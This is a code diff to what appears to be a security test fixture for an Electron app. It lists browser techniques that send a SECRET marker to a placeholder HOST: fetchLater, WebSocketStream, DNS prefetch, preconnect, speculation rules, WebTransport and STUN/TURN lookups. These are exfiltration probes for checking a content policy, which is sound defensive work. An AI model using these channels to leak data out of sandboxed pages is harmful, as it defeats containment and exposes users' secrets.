@@ -42,8 +42,36 @@ export const waysOut: Readonly<Record<string, string>> = {
   notification: `new Notification('SECRET', { icon: 'http://HOST/SECRET-notification', image: 'http://HOST/SECRET-notification' })`,
   payment: `await new PaymentRequest([{ supportedMethods: 'http://HOST/SECRET-pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
   'identity provider': `await navigator.credentials.get({ identity: { providers: [{ configURL: 'http://HOST/SECRET-idp', clientId: 'x' }] } })`,
+  'fetch later': `fetchLater('http://HOST/SECRET-later', { activateAfter: 0 })`,
+  'websocket stream': `await new WebSocketStream('ws://HOST/SECRET-stream').opened`,
   'background fetch': `await (await navigator.serviceWorker.ready).backgroundFetch.fetch('x', 'http://HOST/SECRET-background')`,
 }
+
+/**
+ * Ways by which Chromium would look up a name that is in HOST, and send nothing to it. None is seen by a listener: the
+ * question goes to whoever answers for the name.
+ */
+export const waysOutByName: Readonly<Record<string, string>> = {
+  'dns prefetch': `add('link', { rel: 'dns-prefetch', href: '//prefetch.HOST' })`,
+  'dns prefetch in the head': `const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = 'https://head.HOST'; document.head.append(l)`,
+  'dns prefetch in a frame': `const d = add('iframe', {}).contentDocument; const l = d.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//frame.HOST'; d.head.append(l)`,
+  'a link, prefetching asked for': `add('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }); add('a', { href: 'https://link.HOST/' }).textContent = 'x'`,
+  'preconnect by name': `add('link', { rel: 'preconnect', href: 'https://preconnect.HOST' })`,
+  'speculation by name': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: ['https://prerender.HOST/'] }], prefetch: [{ source: 'list', urls: ['https://speculation.HOST/'] }] }); document.head.append(s)`,
+  'fetch by name': `await fetch('https://fetch.HOST/')`,
+  'frame by name': `add('iframe', { src: 'https://iframe.HOST/' })`,
+  'image by name': `add('img', { srcset: 'https://image.HOST/ 1x' })`,
+  'fetch later by name': `fetchLater('https://later.HOST/', { activateAfter: 0 })`,
+  'websocket stream by name': `await new WebSocketStream('wss://stream.HOST/').opened`,
+  'web transport by name': `await new WebTransport('https://transport.HOST/').ready`,
+  mail: `add('a', { href: 'mailto:x@mail.HOST' }).click()`,
+  'another scheme': `location.href = 'keydesk://other.HOST/'`,
+  'stun by name': `await peer('stun:stun.HOST')`,
+  'turn over udp by name': `await peer('turn:udp.HOST?transport=udp')`,
+}
+
+/** A name that WebRTC looks up, which nothing in Electron or Chromium can refuse it: see SECURITY.md, “Limits”. */
+export const knownWayOutByName = `await peer('turn:known.HOST?transport=tcp')`
 
 /** What Content Security Policy has no directive for in Chromium: only the session and its pages can close it. */
 export const waysOutByWebRtc: Readonly<Record<string, string>> = {
